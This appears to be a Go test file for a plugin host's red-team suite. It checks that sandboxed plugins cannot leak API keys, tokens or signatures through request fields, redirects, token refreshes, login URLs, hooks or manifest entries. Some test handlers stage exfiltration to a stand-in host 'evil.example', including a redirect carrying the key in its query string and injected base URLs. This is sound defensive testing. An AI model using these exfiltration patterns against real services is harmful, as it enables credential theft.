package walk_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/patchbay-dev/patchbay/abi"
	"github.com/patchbay-dev/patchbay/host/auth"
	"github.com/patchbay-dev/patchbay/host/driver"
	"github.com/patchbay-dev/patchbay/host/executor"
	"github.com/patchbay-dev/patchbay/host/testkit/canary"
	"github.com/patchbay-dev/patchbay/host/testkit/walk"
	"github.com/patchbay-dev/patchbay/plugins"
)

// unjudged is a guest whose breaches do not take it out of service: the next
// way is tried with the same plugin.
type unjudged struct{ abi.Guest }

// log is where a driver writes, for several goroutines.
type log struct {
	mu   sync.Mutex // guards text
	text bytes.Buffer
}

func (l *log) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

func (l *log) reset() {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.text.Reset()
}

func (l *log) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.String()
}

// red is the red team's plugin, sandboxed, behind the real driver.
type red struct {
	*walk.World
	t      *testing.T
	plugin *plugins.Plugin
	log    *log
	opts   driver.Options
	e      *driver.Executor
	secret canary.Set
	ctx    context.Context // leads to the Internet
	n      int
}

func newRed(t *testing.T) *red {
	t.Helper()
	r := &red{World: walk.New(t), t: t, log: &log{}}
	r.ctx = executor.WithRoundTripper(t.Context(), r.Internet)
	r.plugin = walk.Load(t, at("redteam"), []byte(`{"client_secret":"client-secret-red-0001"}`))
	r.secret.Add("client's secret", "client-secret-red-0001")
	r.opts = driver.Options{Door: r.Door, HostVersion: "test", ConfigSecret: r.plugin.Secret, Logger: slog.New(slog.NewTextHandler(r.log, nil))}
	m := r.plugin.Manifest()
	i, err := driver.NewInterceptor(unjudged{r.plugin}, m, m.Provides.Preparers[0], r.opts)
	if err != nil {
		t.Fatal(err)
	}
	o := r.opts
	o.Intercept = func(string) ([]*driver.Interceptor, error) { return []*driver.Interceptor{i}, nil }
	if r.e, err = driver.New(unjudged{r.plugin}, m, m.Provides.Providers[0], o); err != nil {
		t.Fatal(err)
	}
	return r
}

// credential makes one with secrets of its own, which tries a way.
func (r *red) credential(way string) *auth.Auth {
	r.n++
	r.log.reset()
	secret := func(field string) string {
		v := fmt.Sprintf("%s-red-%04d/+&\"<", strings.ReplaceAll(field, "_", "-"), r.n)
		r.secret.Add(field, v)
		return v
	}
	file, _ := serviceAccount(r.t)
	return &auth.Auth{
		ID: fmt.Sprint("red-", r.n), Provider: "redteam", Attributes: map[string]string{"base_url": "https://api.example.com/v1", "way": way},
		Metadata: map[string]any{
			"api_key": secret("api_key"), "hmac_key": secret("hmac_key"), "refresh_token": secret("refresh_token"),
			"access_token": secret("access_token"), "service_account": file,
		},
	}
}

// try makes a request that takes a way.
func (r *red) try(way string) (string, error) {
	a := r.credential(way)
	got, err := r.e.Execute(r.ctx, a, executor.Request{
		Model: "m", Format: "openai-chat", Payload: []byte(`{"model":"m","messages":[{"role":"user","content":"x"}]}`),
	}, executor.Options{})
	return string(got.Payload), err
}

// refused holds that an error, or the log for what the client is not told,
// names the rule, and that no secret is in either.
func (r *red) refused(err error, rule string) {
	r.t.Helper()
	switch {
	case err == nil:
		r.t.Errorf("it was not refused; the rule is %q", rule)
	case !strings.Contains(err.Error()+r.log.String(), rule):
		r.t.Errorf("refused with %v, which does not name the rule %q\n%s", err, rule, r.log)
	}
	r.sealed(fmt.Sprint(err, r.log))
}

func (r *red) sealed(text string) {
	r.t.Helper()
	for _, found := range r.secret.Find([]byte(text)) {
		r.t.Errorf("leaked: %s", found)
	}
}

// TestRedTeamRequests: each way out of a request ends in a refusal
// that names the rule, before anything is sent.
func TestRedTeamRequests(t *testing.T) {
	r := newRed(t)
	for way, rule := range map[string]string{
		"a prompt":                          `no slot allows the secret "api_key" at json:/messages/0/content`,
		"a prompt, encoded":                 `no slot allows the secret "api_key" at json:/messages/0/content`,
		"a path":                            `no slot allows the secret "api_key" at path:1`,
		"a query":                           `no slot allows the secret "api_key" at query:key`,
		"another header":                    `no slot allows the secret "api_key" at header:X-Debug`,
		"another prefix":                    `with the prefix "Basic "`,
		"another encoding":                  `the encoding hex`,
		"another secret":                    `no slot allows the secret "hmac_key" at header:Authorization`,
		"the host's secret":                 `no slot allows the secret "config:client_secret"`,
		"another method":                    `at header:Authorization of a GET`,
		"an unknown method":                 `the destination does not allow the method "DELETE"`,
		"another port":                      "no destination of the manifest",
		"another scheme":                    "no destination of the manifest",
		"two labels for one":                "no destination of the manifest",
		"a host behind":                     "no destination of the manifest",
		"a user in the host":                "no destination of the manifest",
		"a foreign host":                    "no destination of the manifest",
		"a granted host":                    "to destination cloud",
		"dots in the path":                  "segment",
		"a host header":                     "the host",
		"an oracle: another place":          `no slot allows the signer "signer:body" at header:X-Mine`,
		"an oracle: the prompt":             `no slot allows the signer "signer:assertion" at json:/messages/0/content`,
		"an oracle: the answer":             "belongs to a token request",
		"a token request to a foreign host": "belongs to refresh or login",
		"intercept: the other's secret":     `no slot allows the secret "api_key" at header:X-Copy`,
		"intercept: the other's header":     "header",
	} {
		t.Run("A-14 "+way, func(t *testing.T) {
			r.t = t
			_, err := r.try(way)
			r.refused(err, rule)
			if !errors.As(err, new(*driver.PluginError)) {
				t.Errorf("error is %T, want the plugin's fault", err)
			}
			if all := r.Arrived(); len(all) != 0 {
				t.Errorf("arrived %+v", all)
			}
		})
	}
	t.Run("A-14 wildcard host", func(t *testing.T) {
		r.t = t
		a := r.credential("a granted host")
		a.Attributes["region"] = "eu.evil"
		_, err := r.e.Execute(r.ctx, a, executor.Request{Model: "m", Payload: []byte("{}")}, executor.Options{})
		r.refused(err, "must be one label of a host name")
	})
}

// TestRedTeamSees: what a guest is given of its credential, of other plugins'
// requests and of an answer that repeats everything.
func TestRedTeamSees(t *testing.T) {
	r := newRed(t)
	evil := false
	r.Host("evil.example", func(http.ResponseWriter, *http.Request) { evil = true })
	r.Host("api.example.com", func(w http.ResponseWriter, q *http.Request) {
		switch q.URL.Path {
		case "/v1/chat":
			fmt.Fprint(w, "{}")
		case "/v1/echo":
			key := strings.TrimPrefix(q.Header.Get("Authorization"), "Bearer ")
			mac := strings.TrimPrefix(q.Header.Get("X-Signature"), "v1=")
			r.secret.Add("signature", mac)
			w.Header().Set("X-Echo", key)
			w.Header().Set("X-Mac", mac)
			w.Header().Set("Location", "https://evil.example/?k="+url.QueryEscape(key)+"&s="+mac)
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, `{"error":{"message":%q}}`, strings.Join([]string{
				"Bearer " + key, mac, base64.StdEncoding.EncodeToString([]byte("u:" + key)), hex.EncodeToString([]byte(key)), url.QueryEscape(key),
			}, " "))
		}
	})
	t.Run("A-14 a field that is sealed", func(t *testing.T) {
		r.t = t
		got, err := r.try("a field that is sealed")
		if err != nil || !strings.HasPrefix(got, "field [] config [") {
			t.Errorf("the guest saw %q, %v", got, err)
		}
		r.sealed(got)
	})
	t.Run("U-12 an echo in body, header and Location", func(t *testing.T) {
		r.t = t
		got, err := r.try("an echo")
		if err != nil || !strings.Contains(got, "[redacted]") {
			t.Errorf("the guest saw %q, %v", got, err)
		}
		r.sealed(got)
		r.sealed(r.log.String())
	})
	t.Run("A-14 text like a reference", func(t *testing.T) {
		r.t = t
		if _, err := r.try("text like a reference"); err != nil {
			t.Fatal(err)
		}
		last := r.last()
		if last.Header.Get("X-Text") != `{"$secret":"api_key"} ${api_key} {{secret:api_key}} config:client_secret` || last.Body != `{"text":"{{api_key}} signer:body"}` {
			t.Errorf("arrived %+v", last)
		}
		r.sealed(fmt.Sprint(last))
	})
	t.Run("A-14 intercept: what it sees", func(t *testing.T) {
		r.t = t
		if _, err := r.try("intercept: what it sees"); err != nil {
			t.Fatal(err)
		}
		last := r.last()
		if !strings.HasPrefix(last.Header.Get("Authorization"), "Bearer api-key-red-") {
			t.Errorf("arrived %+v", last)
		}
		r.sealed(last.Header.Get("X-Seen"))
	})
	t.Run("U-10 a redirect", func(t *testing.T) {
		r.t = t
		r.Host("api.example.com", func(w http.ResponseWriter, q *http.Request) {
			w.Header().Set("Location", "https://evil.example/?k="+url.QueryEscape(q.Header.Get("Authorization")))
			w.WriteHeader(http.StatusTemporaryRedirect)
		})
		_, err := r.try("")
		if err == nil || evil {
			t.Errorf("followed: %v, error %v", evil, err)
		}
		r.sealed(fmt.Sprint(err))
		if u, ok := errors.AsType[*executor.UpstreamError](err); !ok || u.Status != http.StatusTemporaryRedirect && u.Status != http.StatusBadGateway {
			t.Errorf("error is %T %v", err, err)
		} else {
			r.sealed(string(u.Body))
		}
	})
}

func (r *red) last() walk.Arrived {
	all := r.Arrived()
	return all[len(all)-1]
}

// TestRedTeamTokenRequests: ways out of a refresh.
func TestRedTeamTokenRequests(t *testing.T) {
	r := newRed(t)
	r.Host("oauth.example.com", func(w http.ResponseWriter, q *http.Request) {
		w.Header().Set("X-Echo", q.FormValue("refresh_token"))
		if strings.HasPrefix(q.FormValue("refresh_token"), "refused") {
			w.WriteHeader(http.StatusBadRequest)
		}
		fmt.Fprintf(w, `{"access_token":"access-token-red-new","error":"invalid_grant","error_description":%q}`, "no "+q.FormValue("refresh_token"))
	})
	r.secret.Add("new token", "access-token-red-new")
	for way, c := range map[string]struct {
		rule string
		sent int
	}{
		"a foreign host":           {"no destination of the manifest", 0},
		"another destination":      {"no slot allows", 0},
		"the answer":               {"belongs to a token request", 0},
		"a public field":           {"has the name of a secret", 0},
		"a destination":            {"destination", 0},
		"a patch of a destination": {"the field base_url is not public", 1},
		"a patch of a secret":      {"the field api_key is not public", 1},
		"what the guest sees":      {"seen:", 1},
	} {
		t.Run("A-08 "+way, func(t *testing.T) {
			r.t = t
			before := len(r.Arrived())
			a := r.credential(way)
			fresh, err := r.e.Refresh(r.ctx, a)
			if c.sent == 0 {
				r.refused(err, c.rule)
			} else if !strings.Contains(fmt.Sprint(err, r.log), c.rule) && way != "what the guest sees" {
				t.Errorf("error is %v; the rule is %q\n%s", err, c.rule, r.log)
			}
			if fresh != nil && (fresh.Attributes["base_url"] != a.Attributes["base_url"] || fresh.Metadata["api_key"] != a.Metadata["api_key"]) {
				t.Errorf("it changed what is the operator's: %v", fresh.Attributes)
			}
			r.sealed(fmt.Sprint(err, r.log))
			if n := len(r.Arrived()) - before; n != c.sent {
				t.Errorf("%d requests arrived, want %d", n, c.sent)
			}
		})
	}
}

// TestRedTeamLogins: what a person is asked leads nowhere but where the
// manifest says.
func TestRedTeamLogins(t *testing.T) {
	r := newRed(t)
	for way, rule := range map[string]string{
		"a foreign page":           "is no destination that allows GET",
		"its own state":            "the url's parameter state is the host's",
		"an open redirect":         "the url's parameter redirect_uri is the host's",
		"a form for a destination": "is a destination, which only the operator sets",
		"a secret in the clear":    "is secret if and only if the credential's field is",
	} {
		t.Run("A-17 "+way, func(t *testing.T) {
			r.t = t
			_, err := r.e.Login(r.ctx, r.credential(way), auth.LoginInput{Session: "s", Phase: auth.LoginStart})
			r.refused(err, rule)
		})
	}
}

// TestRedTeamPostAuth: what a hook is told of a login, and what it
// may change of a new credential.
func TestRedTeamPostAuth(t *testing.T) {
	r := newRed(t)
	m := r.plugin.Manifest()
	hook, err := driver.NewPostAuth(unjudged{r.plugin}, m, m.Provides.PostAuth[0], func(string) *abi.Manifest { return m }, r.opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"Bearer of-the-browser-01", "cookie-of-the-browser", "key-of-the-browser-01", "authorization-code-01", "state-of-the-login-01"} {
		r.secret.Add("browser's", v)
	}
	info := &auth.RequestInfo{
		Headers: http.Header{"X-Team": {"red"}, "Authorization": {"Bearer of-the-browser-01"}, "Cookie": {"cookie-of-the-browser"}, "X-Api-Key": {"key-of-the-browser-01"}},
		Query:   url.Values{"hd": {"example.com"}, "code": {"authorization-code-01"}, "state": {"state-of-the-login-01"}},
	}
	ctx := auth.WithOrigin(auth.WithRequestInfo(t.Context(), info), auth.OriginLogin)
	t.Run("A-14 RequestInfo", func(t *testing.T) {
		r.t = t
		err := hook.Check(ctx, r.credential("look"))
		if err == nil || !strings.HasSuffix(err.Error(), "seen:  X-Team=red hd=example.com") {
			t.Errorf("the hook saw %v", err)
		}
		r.sealed(fmt.Sprint(err))
	})
	for way, field := range map[string]string{"base_url": "base_url", "proxy": "proxy_url", "secret": "api_key"} {
		t.Run("A-08 a hook changes "+field, func(t *testing.T) {
			r.t = t
			a := r.credential(way)
			before := a.Clone()
			err := hook.Check(ctx, a)
			r.refused(err, field+" is not a hook's to set")
			if a.ProxyURL != before.ProxyURL || a.Attributes["base_url"] != before.Attributes["base_url"] || a.Metadata["api_key"] != before.Metadata["api_key"] {
				t.Errorf("changed to %v", a.Attributes)
			}
		})
	}
}

// TestRedTeamManifests: what may not even be declared. The loader names it.
func TestRedTeamManifests(t *testing.T) {
	for name, c := range map[string]struct{ old, with, rule string }{
		"A-14 a wildcard host":             {`"host": "{region}.cloud.example.com"`, `"host": "*.cloud.example.com"`, "host"},
		"A-14 a host from a public field":  {`"host": "{region}.cloud.example.com"`, `"host": "{email}.example.com"`, "{email} in the host is not a credential field of kind destination"},
		"A-14 a public key":                {`"api_key": {}`, `"api_key": {"kind": "public"}`, "credential field api_key cannot be public"},
		"A-14 a slot for nobody's host":    {`"destination": "token", "methods": ["POST"], "position": "form:refresh_token"`, `"destination": "evil", "methods": ["POST"], "position": "form:refresh_token"`, "there is no destination evil"},
		"A-14 a slot in the host's header": {`"position": "header:X-Signature"`, `"position": "header:Host"`, "written by the host alone"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := walk.TryLoadWith(t, at("redteam"), func(manifest []byte) []byte {
				out := bytes.Replace(manifest, []byte(c.old), []byte(c.with), 1)
				if slices.Equal(out, manifest) {
					t.Fatal("nothing was changed")
				}
				return out
			})
			if err == nil || !strings.Contains(err.Error(), c.rule) {
				t.Errorf("error is %v, want %q", err, c.rule)
			}
		})
	}
}

// TestA08ClientsBaseURL: a place that a client names, wherever it names it, is
// no place that a request goes to.
func TestA08ClientsBaseURL(t *testing.T) {
	w := walk.New(t)
	w.Serve(walk.Load(t, example("openai-compatible"), nil))
	w.Host("api.example.com", func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "application/json")
		fmt.Fprint(rw, `{"choices":[]}`)
	})
	w.Credential(keyed("a", "openai-compatible"))
	const evil = "https://evil.example/v1"
	_, err := w.Manager.Execute(t.Context(), []string{"openai-compatible"}, executor.Request{
		Model: "m", Payload: []byte(`{"model":"m","base_url":"` + evil + `","api_base":"` + evil + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + evil + `"}}]}]}`),
	}, executor.Options{
		Headers: http.Header{"X-Base-Url": {evil}, "Host": {"evil.example"}, "X-Forwarded-Host": {"evil.example"}},
		Query:   map[string][]string{"base_url": {evil}, "api_base": {evil}},
	})
	if err != nil {
		t.Fatal(err)
	}
	all := w.Arrived()
	if len(all) != 1 || all[0].Host != "api.example.com" || all[0].URI != "/v1/chat/completions" || all[0].Header.Get("X-Base-Url") != "" {
		t.Errorf("arrived %+v", all)
	}
}
